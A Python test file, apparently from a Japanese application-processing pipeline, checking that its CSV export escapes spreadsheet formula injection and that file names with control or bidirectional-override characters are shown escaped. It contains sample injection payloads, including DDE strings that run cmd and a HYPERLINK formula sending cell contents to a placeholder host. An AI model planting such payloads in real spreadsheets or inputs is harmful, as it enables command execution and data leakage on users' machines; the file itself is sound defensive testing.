"""Nothing an applicant typed becomes live in the program that opens our outputs (issue 27):
the CSV of `bansou export` escapes every cell a spreadsheet would read as a formula."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from pipeline.cli import main
from pipeline.core.settings import RoundSettings
from pipeline.export import FORMULA_STARTS, inert
from pipeline.run import run_round
from tests.conftest import ROUND_TOML
from tests.roundfactory import RUN_AT, add_form, org

# Each dangerous first character in another column, and in file names.
PAYLOADS = {
    "代表者職氏名": "=HYPERLINK(\"http://example.invalid/?\"&A1,\"開く\")",
    "担当部署": "+cmd|' /C notepad'!A0",
    "取組課題の内容": "-1+2+cmd|' /C notepad'!A0",
    "現在の取組状況": "@SUM(1+1)*cmd|' /C notepad'!A0",
    "連携先の関係機関・団体": "\t=DDE(\"cmd\";\"/C notepad\";\"!A0\")",
    "伴走支援で目指す成果": "\r=WEBSERVICE(\"http://example.invalid\")",
}
FILE_NAMES = ["=cmd|' notepad'!A0.xlsx", "+plus.xlsx", "-minus.xlsx", "@at.xlsx"]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_escaped(text: str) -> None:
    assert inert(text) == "'" + text
    assert inert("普通の文") == "普通の文" and inert("03-1234-5678") == "03-1234-5678"


def test_no_exported_cell_starts_a_formula(tmp_path: Path, inbox: Path, blank_dir: Path,
                                           settings: RoundSettings) -> None:
    add_form(inbox, "payloads.xlsx", org("式の会", "新宿区", PAYLOADS), blank_dir=blank_dir)
    for number, name in enumerate(FILE_NAMES):
        add_form(inbox, name, org(f"名前{number}の会", "八王子市"), blank_dir=blank_dir)
    outbox = inbox.parent / "outbox"
    run_round(inbox, outbox, settings, RUN_AT)
    target = tmp_path / "list.csv"
    result = CliRunner().invoke(main, ["export", "--outbox", str(outbox), "-o", str(target)])
    assert result.exit_code == 0, result.output
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    header = rows[0]
    by_file = {row[header.index("ファイル名")]: row for row in rows[1:]}
    assert set(by_file) >= {"'" + name for name in FILE_NAMES}  # escaped, and still distinct
    payload = by_file["payloads.xlsx"]
    for label, text in PAYLOADS.items():
        shown = payload[header.index(label)]
        assert shown.startswith("'") and shown[1:].strip() == text.strip(), label


# --- File names: any name the file system allows, shown unambiguously ---------------------------

def test_control_and_bidi_characters_in_file_names_are_shown_escaped_and_stay_distinct(
        inbox: Path, blank_dir: Path, settings: RoundSettings) -> None:
    names = {"申請\x07.xlsx": "申請\\x07.xlsx", "申請\x1b.xlsx": "申請\\x1b.xlsx",
             "report\u202excod.xlsx": "report<U+202E>xcod.xlsx",
             "見\u200bえない.xlsx": "見<U+200B>えない.xlsx", "tab\there.xlsx": "tab\\x09here.xlsx"}
    for number, name in enumerate(names):
        add_form(inbox, name, org(f"名前{number}の会", "新宿区"), blank_dir=blank_dir)
    outbox = inbox.parent / "outbox"
    result = CliRunner().invoke(main, ["run", "--inbox", str(inbox), "--outbox", str(outbox),
                                       "--config", str(ROUND_TOML)],
                                env={"SOURCE_DATE_EPOCH": str(int(RUN_AT.timestamp()))})
    assert result.exit_code == 0, result.output
    ledger = openpyxl.load_workbook(outbox / "選定結果.xlsx")["受付一覧"]
    header = [cell.value for cell in ledger[1]]
    shown = [row[header.index("ファイル名")] for row in ledger.iter_rows(min_row=2, values_only=True)]
    assert sorted(shown) == sorted(names.values())
    everything = result.output + "".join(
        path.read_text(encoding="utf-8") for path in outbox.rglob("*.txt"))
    assert not any(ch in everything for ch in "\x07\x1b\u202e\u200b\t")
